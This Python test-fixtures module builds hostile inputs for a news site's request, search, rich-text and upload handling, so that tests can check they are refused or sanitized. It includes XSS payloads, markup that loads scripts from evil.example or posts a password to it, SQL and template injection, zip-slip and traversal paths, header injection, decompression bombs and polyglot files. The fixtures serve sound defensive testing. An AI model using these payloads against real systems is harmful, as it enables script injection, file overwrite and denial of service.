"""Hostile values, markup and files, built once when the module is imported.

Files are small on purpose: a decompression bomb is a few hundred bytes declaring a huge
canvas, a zip bomb a few kilobytes unpacking to megabytes.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.announcements import factories as documents
from tests.news.factories import bomb_png, gps_exif

# Titles of content the public must never see (a draft and a scheduled item); every answer
# to every hostile request is checked for them.
DRAFT_MARKER = "Draftmarker Qzx"
SCHEDULED_MARKER = "Scheduledmarker Qzx"
SECRET_MARKERS = (DRAFT_MARKER, SCHEDULED_MARKER)

# --- Query-string values ------------------------------------------------------------------------

NUMBERS = ["0", "-1", "1e308", "NaN", "١", "99999999999999999999999999", "last"]  # ١: int() reads it
MALFORMED = ["", "[]", "%", "\\", "a\x00b", "\u202eevil", "ё" * 300, "x" * 5000]
INJECTIONS = [
    "' OR '1'='1", "../../etc/passwd", "{{7*7}}", "%(x)s",
    "<script>alert(1)</script>", '"><svg onload=alert(1)>', "'><img src=x onerror=alert(1)>",
]  # fmt: skip
DATES = ["2020-02-30", "0000-00-00", "9999-12-31", "-2020-01-01", "2020-13-01", "01.01.2020"]
SLUG_TRICKS = ["SUGHD", "sughd\x00", "khujand"]
QUERY_VALUES = NUMBERS + MALFORMED + INJECTIONS + DATES + SLUG_TRICKS

# Query strings that play with the keys: repeated, array-style, ORM lookups, connectors.
QUERY_SHAPES = [
    "{p}=1&{p}=2",
    "{p}=abc&{p}=1",
    "{p}[]=1",
    "{p}",
    "{p}=1;{p}=2",
    "{p}__slug__regex=.*",
    "region__slug__startswith=s",
    "published_at__lt=2000-01-01",
    "status__in=draft,withdrawn",
    "_connector=OR&_negated=1",
    "o=-1&ordering=-pk&&&=&=",
    "a=1&" * 500 + "b=2",
]

# Percent-escapes that are not UTF-8, and raw bytes the server receives as Latin-1.
RAW_QUERY_STRINGS = [
    "{p}=%ff%fe",
    "{p}=%c0%af",
    "{p}=%ed%a0%80",
    "{p}=%e2%82",
    "{p}=%zz%",
    "{p}=\xff\xfe",
    "%ff=1",
    "{p}=%0d%0aSet-Cookie:%20x=1",
]

# --- Search ---------------------------------------------------------------------------------------

SEARCH_QUERIES = [
    "\x00", "a\x00b", "милиция\x00", "x" * 1200, "ҷ" * 1000, "a & b", "a | b", "!a", "a:*", "(a", "a)",
    "a & | ! :* ( )", "'a' & 'b'", "a <-> b", "a <2> b", "\\", "'", '"', "''", "%", "_", "%%", "_%_", "%_%",
    "<script>alert(1)</script>", '"><svg onload=alert(1)>', "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", '" autofocus onfocus="alert(1)',
    "Милиция", "Мили\u0306ция", "й", "и\u0306",  # NFC and NFD
    "Ҷиноят", "Ч\u0327", "ҳ", "х\u0327",
    "mіlіtsіya", "раssроrt",  # Latin and Cyrillic homoglyphs
    "\u202eaeteloP", "a\u202eb\u202cc", "\u200bm\u200bi", "\ufeffmia", "\u2028", "\U0001f600",
    "*", "?", "[a-z]", "a~", "a^2", "NOT a", "a OR b", "a AND b", "-a", "+a",
]  # fmt: skip
RAW_SEARCH_STRINGS = ["q=%ff%fe", "q=%c0%af", "q=%ed%a0%80", "q=\xff\xfe", "q=%", "q=%e2%82", "q[]=x"]

# --- Rich text -------------------------------------------------------------------------------------

RICH_TEXT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="/media/x.jpg" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">a</a>',
    '<a href="&#0000106avascript:alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href=" \x01javascript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="VbScRiPt:msgbox(1)">a</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="javascript:alert(1)">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/media/../../evil">',
    '<img src="/media/%2e%2e/%2e%2e/reading-mode/?mode=on">',
    '<img src="/media/..\\..\\language/en/">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button formaction="x">Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    "<style>body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<a href="https://mia.tj" target="_blank">ok</a>',
    '<table><tr><td colspan="x onmouseover=alert(1)">x</td></tr></table>',
    '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
    '<figure class="image x" onclick="alert(1)"><img src="/media/editor/a.jpg"></figure>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    "<marquee onstart=alert(1)>",
    "<div>" * 3000 + "deep" + "</div>" * 3000,
    "<b>" * 2000 + "bold",
    "<p>a\x00b\x01c\x08d\x0be\x0cf\x0eg\x1fh\x7fi\ufffej\uffffk</p>",
    "<p>\ud7ff \ue000 \U0001f600 ok</p>",
    "<p>\u202eevil\u202c</p>",
    "<p>" + "x" * 200_000 + "</p>",
]  # fmt: skip
# What no stored or rendered body may contain, whatever the payload was.
ACTIVE_MARKERS = (
    "<script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "onstart", "onfocus",
    "javascript:", "vbscript:", "data:", "<iframe", "<object", "<embed", "<form", "<input",
    "<meta", "<base", "<link", "style=", "<style", "<svg", "<math", "evil.example", "srcdoc",
    "formaction", "<template", "<details",
)  # fmt: skip
# Plain-text fields (titles, leads) with characters that XML 1.0 forbids and markup.
PLAIN_TEXT = [
    "Title\x0bwith\x0cvertical\x1ftabs",
    "Title\x01\x02\x03\x08 control",
    "Title \ufffe\uffff non-characters",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Title & ampersand &amp; entity &lt;b&gt;",
    "\u202eTitle reversed\u202c",
    "]]><!-- cdata end",
]

# --- Images ----------------------------------------------------------------------------------------


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def image_bytes(size=(64, 48), fmt="JPEG", mode="RGB", **options):
    output = io.BytesIO()
    colour = (120, 80, 40) if mode == "RGB" else 100
    Image.new(mode, size, colour).save(output, fmt, **options)
    return output.getvalue()


def png_with_chunk(kind, data):
    png = image_bytes(fmt="PNG")
    end = png.rindex(b"IEND") - 4
    return png[:end] + _png_chunk(kind, data) + png[end:]


def _patched_jpeg_size(width, height):
    data = bytearray(image_bytes((16, 16)))
    frame = data.find(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _gif_with_screen(width, height):
    data = bytearray(image_bytes((16, 16), "GIF", "P"))
    data[6:10] = struct.pack("<HH", width, height)
    return bytes(data)


def _text_bomb():
    compressor = zlib.compressobj(9)
    packed = compressor.compress(b"\0" * 8_000_000) + compressor.flush()
    return png_with_chunk(b"zTXt", b"Comment\x00\x00" + packed)


def _gps_jpeg():
    return image_bytes((320, 240), exif=gps_exif())


def _zip_of(members):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return output.getvalue()


SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
PDF = documents.pdf_bytes("not a photo")
GOOD_JPEG = image_bytes((320, 240))
GPS_JPEG = _gps_jpeg()

# (name, bytes): every one must be refused with a message, nothing stored.
REFUSED_IMAGES = {
    "decompression-bomb-png": ("bomb.png", bomb_png(30_000, 30_000)),
    "pixel-flood-png": ("flood.png", bomb_png(10_000, 10_000)),
    "pixel-flood-jpeg-header": ("flood.jpg", _patched_jpeg_size(65_000, 65_000)),
    "pixel-flood-gif-screen": ("flood.gif", _gif_with_screen(65_000, 65_000)),
    "text-chunk-bomb-png": ("text.png", _text_bomb()),
    "iccp-bomb-png": ("icc.png", png_with_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(b"\0" * 8_000_000))),
    "svg-as-jpeg": ("photo.jpg", SVG),
    "svg-with-xml-prolog": ("photo.png", b'<?xml version="1.0"?>' + SVG),
    "html-as-png": ("photo.png", HTML),
    "html-as-gif": ("photo.gif", b"GIF89a" + HTML),
    "pdf-as-jpeg": ("photo.jpg", PDF),
    "zip-as-jpeg": ("photo.jpg", _zip_of([("a.txt", "x")])),
    "exe-as-jpeg": ("photo.jpg", documents.WINDOWS_PROGRAM),
    "eps-as-jpeg": ("photo.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n"),
    "tiff-as-jpeg": ("photo.jpg", image_bytes(fmt="TIFF")),
    "bmp-as-png": ("photo.png", image_bytes(fmt="BMP")),
    "ico-as-png": ("photo.png", image_bytes(fmt="ICO")),
    "truncated-jpeg": ("cut.jpg", GOOD_JPEG[: len(GOOD_JPEG) // 3]),
    "truncated-png": ("cut.png", image_bytes((200, 200), "PNG")[:120]),
    "jpeg-header-only": ("head.jpg", GOOD_JPEG[:4]),
    "empty": ("empty.jpg", b""),
    "one-byte": ("one.jpg", b"\xff"),
    "very-wide": ("wide.png", image_bytes((70_000, 1), "PNG", "L")),
    "very-tall": ("tall.png", image_bytes((2, 20_000), "PNG", "L")),
}
# Accepted, but stored re-encoded: what was appended or embedded must be gone.
POLYGLOTS = {
    "jpeg-plus-zip": GOOD_JPEG + _zip_of([("payload.html", SCRIPT)]),
    "jpeg-plus-html": GOOD_JPEG + HTML,
    "gif-plus-jar": image_bytes((32, 32), "GIF", "P")
    + _zip_of([("META-INF/MANIFEST.MF", "x"), ("a.class", SCRIPT)]),
    "png-with-script-text-chunk": png_with_chunk(b"tEXt", b"Comment\x00" + SCRIPT),
    "png-with-huge-text-chunk": png_with_chunk(b"tEXt", b"Comment\x00" + SCRIPT + b"A" * 2_000_000),
    "jpeg-with-script-comment": image_bytes((64, 48), comment=SCRIPT),
    "jpeg-with-gps": GPS_JPEG,
    "png-with-gps": image_bytes((64, 48), "PNG", exif=gps_exif()),
    "webp-with-gps": image_bytes((64, 48), "WEBP", exif=gps_exif()),
    "gif-with-script-comment": image_bytes((32, 32), "GIF", "P", comment=SCRIPT),
    "jpeg-with-icc-payload": image_bytes((64, 48), icc_profile=b"\0" * 128 + SCRIPT),
}
# Odd but genuine pictures: accepted, and never a 500.
ODD_IMAGES = {
    "png-16-bit-grey": image_bytes((40, 30), "PNG", "I;16"),
    "png-1-bit": image_bytes((40, 30), "PNG", "1"),
    "png-grey-alpha": image_bytes((40, 30), "PNG", "LA"),
    "cmyk-jpeg": image_bytes((40, 30), "JPEG", "CMYK"),
    "gif-transparent": image_bytes((40, 30), "GIF", "P", transparency=0),
    "webp-alpha": image_bytes((40, 30), "WEBP", "RGBA"),
    "wide-banner": image_bytes((5_000, 4), "PNG", "L"),
    "narrow-strip": image_bytes((3, 3_000), "PNG", "L"),
    "one-pixel": image_bytes((1, 1), "PNG"),
}

# --- Documents -------------------------------------------------------------------------------------


CATALOG = b"/Type /Catalog"
REFUSED_DOCUMENTS = {
    "zip-bomb": documents.zip_bomb(),
    "zip-slip-dotdot": documents.zip_slip("../../../etc/cron.d/evil"),
    "zip-slip-backslash": documents.zip_slip("..\\..\\windows\\system32\\evil.dll"),
    "zip-slip-absolute": documents.zip_slip("/etc/passwd"),
    "zip-slip-drive": documents.zip_slip("C:/Windows/evil.txt"),
    "zip-in-zip": _zip_of([("inner.zip", documents.zip_bytes())]),
    "zip-with-exe": _zip_of([("setup.pdf.exe", documents.WINDOWS_PROGRAM)]),
    "zip-with-html": _zip_of([("readme.html", HTML)]),
    "zip-with-disguised-program": _zip_of([("readme.txt", documents.WINDOWS_PROGRAM)]),
    "encrypted-zip": documents.encrypted_zip(),
    "docm-as-docx": documents.docm_bytes(),
    "doc-with-macros": documents.doc_bytes(macros=True),
    "xls-with-macros": documents.xls_bytes(macros=True),
    "odt-with-basic-macros": documents.odf_bytes(extra_parts=[("Basic/Standard/Module1.xml", "<x/>")]),
    "exe-as-docx": documents.WINDOWS_PROGRAM,
    "elf-as-pdf": documents.LINUX_PROGRAM,
    "shell-script-as-pdf": documents.SHELL_SCRIPT,
    "html-as-pdf": HTML,
    "svg-as-pdf": documents.SVG_IMAGE,
    "pdf-with-javascript": PDF.replace(CATALOG, CATALOG + b" /OpenAction << /S /JavaScript /JS (alert) >>"),
    "pdf-with-escaped-javascript": PDF.replace(CATALOG, CATALOG + b" /OpenAction << /S /J#61vaScript >>"),
    "jpeg-as-pdf": GOOD_JPEG,
    "gzip-as-zip": zlib.compress(b"x" * 100),
    "truncated-zip": documents.docx_bytes()[:200],
    "empty": b"",
}  # fmt: skip
# A genuine PDF under names built to deceive or break whoever handles them.
HOSTILE_NAMES = {
    "traversal": ("../../../etc/passwd.pdf", "passwd.pdf"),
    "windows-traversal": ("..\\..\\boot.ini.pdf", "boot.ini.pdf"),
    "nul-byte": ("report\x00.exe.pdf", "report.exe.pdf"),
    "bidi-override": ("invoice\u202efdp.exe", "invoicefdp.exe.pdf"),
    "long-name": ("Д" * 300 + ".pdf", "Д" * 116 + ".pdf"),
    "cyrillic": ("Тендерная документация №3 (ред. 2).pdf", "Тендерная документация №3 (ред. 2).pdf"),
    "tajik": ("Ҳуҷҷатҳои тендерӣ.pdf", "Ҳуҷҷатҳои тендерӣ.pdf"),
    "markup": ('<img src=x onerror=alert(1)>".pdf', None),
    # Browsers send CR and LF in a file name percent-encoded; raw ones would end the part's headers.
    "header-injection": ("a%0D%0AContent-Type: text/html%0D%0A%0D%0A<script>.pdf", None),
    "quotes-and-semicolons": ('a";filename=evil.html;.pdf', None),
    "only-dots": ("....pdf", None),
    "wrong-extension": ("dossier.html", "dossier.html.pdf"),
}
